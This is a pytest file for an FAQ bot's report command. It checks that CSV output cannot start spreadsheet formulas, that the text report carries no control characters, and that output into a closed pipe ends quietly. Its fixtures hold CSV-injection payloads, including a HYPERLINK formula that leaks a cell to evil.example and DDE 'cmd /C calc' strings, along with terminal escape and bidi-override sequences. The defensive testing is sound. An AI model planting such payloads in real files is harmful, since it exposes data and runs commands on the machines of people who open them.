"""The report can't be hijacked by a question: CSV cells can't start a spreadsheet formula
(OWASP's CSV-injection advice), the text report prints no control characters, and any
command piped into ``head`` ends quietly."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.cli import main
from bot.faq.policy import Answer, Hit
from bot.storage import Store
from tests.conftest import ROOT, clean_env

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click me")', "+1+cmd|' /C calc'!A0",
           "-2+3 where is the form", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tabbed",
           "\r=1+1 returned", "\x1b[2J\x1b]0;pwned\x07 cleared your screen",
           "\u202eevil\u202c reversed"]
HOSTILE_FAQ = "=cmd|'/C calc'!A0\x1b[31m"


@pytest.fixture
def logged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    store = Store.from_url(url)
    closest = Hit(row=0, id=HOSTILE_FAQ, question="q", answer="a", url="", score=-0.05)
    for n, text in enumerate(HOSTILE):
        store.log_question(team="T1", channel="C1", ts=f"1.{n}", user=f"U{n}", text=text,
                           answer=Answer(decision="none", shown=(), candidates=(closest,)),
                           latency_ms=1.0)
    store.log_vote(team="T1", channel="C1", message_ts="1.0", user="U1", faq_id=HOSTILE_FAQ,
                   vote="up")
    store.close()
    monkeypatch.setenv("DATABASE_URL", url)
    yield


def test_csv_cells_never_start_a_formula(logged: None, capsys: pytest.CaptureFixture) -> None:
    assert main(["report", "--csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) >= 2  # the questions did reach the CSV, in one or more groups
    numbers = {"count", "people", "direct", "closest_score"}
    cells = [cell for row in rows for field, cell in row.items() if field not in numbers]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)  # kept, but inert
    assert {row["closest_faq"] for row in rows} == {"'" + HOSTILE_FAQ.replace("\x1b", "")}
    assert {row["closest_score"] for row in rows} == {"-0.05"}  # numbers stay numbers


def test_text_report_prints_no_control_characters(logged: None,
                                                  capsys: pytest.CaptureFixture) -> None:
    assert main(["report"]) == 0
    out = capsys.readouterr().out
    controls = {c for c in out if (ord(c) < 32 and c != "\n") or 0x7f <= ord(c) < 0xa0}
    assert not controls
    assert "\u202e" not in out and "\u202c" not in out
    assert "cleared your screen" in out or "=HYPERLINK(" in out  # the texts are still shown


def run_into_closed_pipe(*args: str) -> subprocess.CompletedProcess[str]:
    """``faqbot … | head`` where head has already gone: the read end is closed before the
    command starts, so its first write fails, whatever the timing."""
    read, write = os.pipe()
    os.close(read)
    env = clean_env(**{"DATABASE_URL": os.environ["DATABASE_URL"]}
                    if "DATABASE_URL" in os.environ else {})
    try:
        return subprocess.run([sys.executable, "-m", "bot", *args], stdout=write,
                              stderr=subprocess.PIPE, text=True, env=env, cwd=ROOT,
                              timeout=120)
    finally:
        os.close(write)


def test_ask_into_a_closed_pipe_ends_quietly() -> None:
    result = run_into_closed_pipe("ask", "how do I get a new card?", "--json")
    assert result.stderr == ""
    assert result.returncode == 141  # 128 + SIGPIPE, as a shell reports `yes | head`


def test_report_into_a_closed_pipe_ends_quietly(logged: None) -> None:
    result = run_into_closed_pipe("report", "--csv")
    assert result.stderr == ""
    assert result.returncode == 141
